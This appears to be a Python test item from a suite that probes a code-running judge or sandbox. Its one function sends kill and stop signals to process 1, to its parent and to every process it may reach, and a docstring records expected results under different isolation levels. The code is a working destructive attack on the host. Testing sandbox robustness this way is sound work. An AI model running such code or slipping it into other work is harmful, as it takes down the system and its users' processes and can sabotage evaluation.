"""Kills its parent, process 1, and then everything that there is, itself left out.

kind: attack the judge
says: deliver
strong: holds
partial: not run: as an ordinary user it would end all that this user runs
none: not run: it would end all that its user runs
"""

import contextlib
import os
import signal


def attack():
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGKILL, signal.SIGSTOP):
        for pid in (1, os.getppid(), -1):
            if pid:
                with contextlib.suppress(ProcessLookupError, PermissionError):
                    os.kill(pid, number)
